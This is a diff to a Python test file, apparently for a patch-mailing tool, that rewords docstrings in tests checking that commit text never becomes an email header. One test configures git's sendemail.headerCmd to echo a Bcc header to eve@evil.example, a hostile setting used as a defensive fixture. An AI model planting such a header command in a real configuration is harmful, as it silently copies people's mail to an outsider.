@@ -1,7 +1,7 @@
 # SPDX-License-Identifier: GPL-2.0-or-later
-"""No text of a commit becomes a header, whatever the transport makes of it.
+"""Test that no text of a commit becomes a header, for each transport.
 
-And what cannot be made into mails is no network error.
+Text that cannot be a message is not a network error.
 """
 
 import os
@@ -24,8 +24,8 @@ TRANSPORTS = pytest.mark.parametrize("via", ["git-send-email", "b4"])
 
 
 def committed(repo: Repo, subject: str, author: str) -> None:
-    """A commit with this subject and author, as it can come from anywhere: git itself takes a
-    carriage return.
+    """Commit with this subject and author, since commits can come from anywhere: git itself accepts
+    a carriage return.
     """
     (repo.path / "widget.c").write_text("int y;\n")
     repo.git("add -A")
@@ -177,7 +177,9 @@ def test_b4_failing_to_decode_a_patch_is_an_input_error_that_names_the_commit(
 
 
 def test_a_header_command_in_the_configuration_stops_nothing(tmp_path: Path) -> None:
-    """An older git does not know it, and fails over the option that switches it off."""
+    """Test that an older git, which does not know the setting, does not fail on the option that
+    disables it.
+    """
     with FaultySink() as server:
         repo = topic(tmp_path / "r", 1, server=server)
         repo.git("config --global sendemail.headerCmd 'echo Bcc: eve@evil.example'")
